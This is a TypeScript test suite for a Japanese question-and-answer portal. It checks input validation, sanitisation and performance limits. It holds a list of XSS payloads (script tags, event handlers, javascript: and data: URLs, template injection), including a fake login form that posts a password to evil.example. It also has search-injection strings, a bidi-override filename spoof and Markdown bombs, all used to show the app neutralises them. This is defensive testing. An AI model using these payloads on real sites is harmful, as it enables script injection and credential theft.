import { randomUUID } from "node:crypto";
import { parseWithZod } from "@conform-to/zod/v4";
import { sql } from "drizzle-orm";
import { translator } from "#app/i18n/i18n.server.ts";
import { answerQuestion } from "#app/questions/answering.server.ts";
import { askQuestion } from "#app/questions/asking.server.ts";
import { addComment } from "#app/questions/commenting.server.ts";
import { questionFeed } from "#app/questions/question-feed.server.ts";
import {
  closureSchema,
  duplicateSchema,
  editedQuestionSchema,
  informationSchema,
  newAnswerSchema,
  newCommentSchema,
  newQuestionSchema,
} from "#app/questions/question-form.ts";
import { listPublicQuestions, searchQuestions } from "#app/questions/question-list.server.ts";
import { findQuestionPage } from "#app/questions/question-page.server.ts";
import { BODY_MAX, COMMENT_MAX, TITLE_MAX } from "#app/questions/questions.ts";
import { listSimilarQuestions } from "#app/questions/similar-questions.server.ts";
import { diffTexts } from "#app/questions/text-diff.server.ts";
import { disallowed } from "#test/lib/markdown/disallowed.ts";
import { describe, expect, test } from "#test/support/database.ts";
import { ask, NOW } from "#test/support/factories.ts";
import { cast } from "./cast.ts";

const t = translator("ja", "questions");
const key = randomUUID();
const good = {
  title: "CSVの取り込みが止まります",
  area: "1",
  body: "1,000行目で止まります。",
  tags: "csv",
  scope: "public",
  key,
};

type Schema = Parameters<typeof parseWithZod>[1]["schema"];

/** What a form says to these fields: its errors, or the values it read. */
function read(schema: Schema, fields: Record<string, string>) {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  const submission = parseWithZod(form, { schema });
  return submission.status === "success"
    ? { value: submission.value as Record<string, unknown> }
    : { error: submission.error as Record<string, string[] | null> };
}

const asked = (fields: Record<string, string>) =>
  read(newQuestionSchema(t), { ...good, ...fields });

/** Of each group, what looks like text and is none, or is far too much of it. */
const NOTHING = {
  empty: "",
  spaces: "   ",
  "ideographic spaces": "　　　",
  "zero width": "\u200b\u200c\u200d\u2060\ufeff",
  "soft hyphens": "\u00ad".repeat(20),
  "hangul fillers": "\u3164\u115f\u1160\uffa0",
  "control characters": "\u0000\u0007\u001b\u0085",
  "line breaks": "\r\n\n\t",
  "direction marks": "\u202e\u2066\u200f\u061c",
  "variation selectors": "\ufe0f\ufe0f",
  "tag characters": "\u{e0041}\u{e0042}\u{e007f}",
  "braille blank": "\u2800",
};

describe("a title", () => {
  for (const [name, title] of Object.entries(NOTHING)) {
    test(`of nothing but ${name} is refused in words`, () => {
      const [message] = asked({ title }).error?.title ?? [];
      expect(message).toMatch(/タイトル/);
    });
  }

  test("of 200,000 characters is refused, with both lengths", () => {
    const { error } = asked({ title: "あ".repeat(200_000) });
    expect(error?.title).toEqual([t("error.title.long", { max: TITLE_MAX, length: 200_000 })]);
  });

  test("is measured as people count: characters, not what is unseen", () => {
    expect(asked({ title: "𠮷".repeat(TITLE_MAX) }).error).toBeUndefined();
    expect(asked({ title: "𠮷".repeat(TITLE_MAX + 1) }).error?.title).toHaveLength(1);
    expect(asked({ title: `あ\u200b\u200b\u200b\u200b\u200bい` }).error?.title).toHaveLength(1);
  });

  test("keeps no mark that turns the text around it, and keeps families whole", () => {
    const { value } = asked({ title: "請求書\u202egnp.exe\u2067 の\u0000  印刷\u3164 👨‍👩‍👧" });
    expect(value?.title).toBe("請求書gnp.exe の 印刷 👨‍👩‍👧");
  });
});

describe("other fields", () => {
  test("a body of nothing is refused, whatever nothing is made of", () => {
    for (const body of Object.values(NOTHING)) {
      expect(asked({ body }).error?.body).toEqual([t("error.body.missing")]);
    }
  });

  test("a line break counts once, as in the browser", () => {
    const lines = `${"a".repeat(98)}\r\n`.repeat(BODY_MAX / 100 + 1);
    expect(asked({ body: lines.slice(0, BODY_MAX) }).error).toBeUndefined();
    expect(asked({ body: "a".repeat(BODY_MAX + 1) }).error?.body).toHaveLength(1);
    const comment = { key, body: `${"a".repeat(COMMENT_MAX / 2 - 1)}\r\n`.repeat(2) };
    expect(read(newCommentSchema(t), comment).error).toBeUndefined();
    const long = { key, body: "あ".repeat(COMMENT_MAX + 1) };
    expect(read(newCommentSchema(t), long).error?.body?.[0]).toContain("2001");
  });

  test("every refusal is in the reader's language", () => {
    const refused = [
      asked({ title: "x", body: "", area: "", scope: "", tags: "x".repeat(501) }),
      asked({ area: "1e400", scope: "everyone" }),
      asked({ area: "-1" }),
      asked({ area: "1.5" }),
      read(newAnswerSchema(t), { key, body: "", trueForVersion: "x".repeat(41), reviewOn: "soon" }),
      read(newAnswerSchema(t), { key, body: "x", reviewOn: "0000-01-01" }),
      read(newAnswerSchema(t), { key, body: "x", reviewOn: "2026-02-30" }),
      read(informationSchema(t), { message: "\u200b" }),
      read(informationSchema(t), { message: "あ".repeat(COMMENT_MAX + 1) }),
      read(closureSchema(t), { reason: "because", note: "あ".repeat(1_001) }),
      read(duplicateSchema(t), { canonical: "javascript:alert(1)" }),
      read(duplicateSchema(t), { canonical: "0" }),
    ];
    for (const { error } of refused) {
      const messages = Object.values(error ?? {}).flat();
      expect(messages.length).toBeGreaterThan(0);
      for (const message of messages) expect(message).toMatch(/[\u3040-\u30ff]/);
    }
  });

  test("numbers that no row can have are refused, not handed to the database", () => {
    for (const version of ["0", "-1", "2147483648", "9007199254740993", "1e9999", "NaN", ""]) {
      expect(read(editedQuestionSchema(t), { ...good, version }).error?.version).toBeDefined();
    }
    expect(asked({ area: "99999999999999999999" }).error?.area).toBeDefined();
    for (const broken of ["", "1", "x".repeat(36), `${key}\u0000`]) {
      expect(asked({ key: broken }).error?.key).toBeDefined();
    }
  });

  test("the original is named by number or by address", () => {
    const named = (canonical: string) => read(duplicateSchema(t), { canonical }).value?.canonical;
    expect(named("12")).toBe(12);
    expect(named(" https://portal.example/questions/12?x=1#answer-3 ")).toBe(12);
    for (const text of ["", "x12", "/questions/x", "/questions/12345678901234567890"]) {
      expect(named(text)).toBeUndefined();
    }
  });

  test("nothing in an optional field is no value", () => {
    const { value } = read(newAnswerSchema(t), { key, body: "x", trueForVersion: " \u200b " });
    expect(value?.trueForVersion).toBeUndefined();
  });
});

const SCRIPT = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "[x](javascript:alert(1))",
  "![x](javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "<svg/onload=alert(1)>",
  "<a href='vbscript:x'>x</a>",
  "`</code><script>alert(1)</script>`",
  "```html\n</code></pre><script>alert(1)</script>\n```",
  '"><iframe srcdoc="<script>alert(1)</script>">',
  "<style>*{display:none}</style><form action=//evil.example><input name=password>",
  '<div style="position:fixed;inset:0" class="card" id="root" data-x>',
  "{{constructor.constructor('alert(1)')()}} $t(common:portal.ask)",
  "</script><!--",
];

describe("script in every field", () => {
  test("is inert in what is stored, and is text in what is shown", async ({ db }) => {
    const people = await cast(db);
    const body = SCRIPT.join("\n\n");
    const questionId = await ask(db, people.asker, {
      productAreaId: people.area.id,
      title: SCRIPT[0],
      body,
      tags: SCRIPT.join(" "),
    });
    const answered = await answerQuestion(db, {
      viewer: people.helper,
      questionId,
      content: { body, trueForVersion: SCRIPT[1] ?? "", reviewOn: null },
      submissionKey: randomUUID(),
      now: NOW,
    });
    if (!answered.ok) throw new Error(answered.reason);
    const { answerId } = answered;
    const comment = { viewer: people.asker, questionId, body, now: NOW };
    await addComment(db, { ...comment, submissionKey: randomUUID() });
    await addComment(db, { ...comment, answerId, submissionKey: randomUUID() });
    const page = await findQuestionPage(db, { viewer: undefined, questionId });
    const posts = [
      page?.question,
      page?.answers[0],
      page?.question.comments[0],
      page?.answers[0]?.comments[0],
    ];
    for (const post of posts) {
      expect(post?.bodySource).toBe(body);
      expect(disallowed(post?.bodyHtml ?? "<missing>")).toEqual([]);
    }
    expect(page?.question.title).toBe(SCRIPT[0]);
    for (const tag of page?.question.tags ?? []) expect(tag).toMatch(/^[\p{L}\p{N}_.+-]+$/u);
    const feed = questionFeed(await listPublicQuestions(db, { limit: 5 }), {
      origin: "https://portal.example",
      title: SCRIPT[0] ?? "",
      now: NOW,
    });
    expect(feed).not.toMatch(/<(script|svg|iframe|style|form)/i);
    for (const words of SCRIPT) {
      await searchQuestions(db, { viewer: undefined, words });
      await listSimilarQuestions(db, { viewer: undefined, title: words });
    }
  });

  test("search takes whatever is typed", async ({ db }) => {
    const strange = [
      "'",
      "\\",
      "' | '",
      "!a & (b",
      ":*",
      "<->",
      "\0",
      "%_",
      "ﷺ".repeat(300),
      "a".repeat(9_000),
    ];
    for (const words of [...strange, ...Object.values(NOTHING)]) {
      expect(await searchQuestions(db, { viewer: undefined, words })).toEqual([]);
      expect(await listSimilarQuestions(db, { viewer: undefined, title: words })).toEqual([]);
    }
  });
});

describe("Markdown bombs", () => {
  test("are stored as harmless text or refused in words, and hold nobody up", async ({ db }) => {
    const people = await cast(db);
    const bombs = [
      ">".repeat(5_000),
      "_a__b".repeat(10_000),
      "_a__b".repeat(20_000),
      "[".repeat(50_000),
    ];
    for (const body of bombs) {
      const outcome = await askQuestion(db, {
        viewer: people.asker,
        content: {
          title: "書式の多い質問です",
          body,
          productAreaId: people.area.id,
          scope: "public",
          tags: "",
        },
        submissionKey: randomUUID(),
        now: NOW,
      });
      if (!outcome.ok) expect(outcome.reason).toMatch(/^body-too-(long|complex)$/);
    }
    const rows = await db.execute<{ body_html: string }>(sql`select body_html from questions`);
    for (const row of rows) expect(disallowed(row.body_html)).toEqual([]);
    expect(asked({ body: bombs[2] ?? "" }).error?.body).toHaveLength(1);
  });

  test("NUL and other control characters are left out of a body", async ({ db }) => {
    const people = await cast(db);
    const questionId = await ask(db, people.asker, {
      productAreaId: people.area.id,
      body: "一行目\u0000\r\n\u0007二行目\u001b[31m\tおわり",
    });
    const page = await findQuestionPage(db, { viewer: undefined, questionId });
    expect(page?.question.bodySource).toBe("一行目\n二行目[31m\tおわり");
  });

  test("texts with nothing in common are compared in a moment", () => {
    const text = (seed: number) =>
      Array.from({ length: 25_000 }, (_, n) =>
        String.fromCodePoint(0x4e00 + ((n * seed) % 9_000)),
      ).join("");
    const before = performance.now();
    const parts = diffTexts(text(7), text(11));
    expect(performance.now() - before).toBeLessThan(5_000);
    expect(parts.length).toBeGreaterThan(0);
  });
});
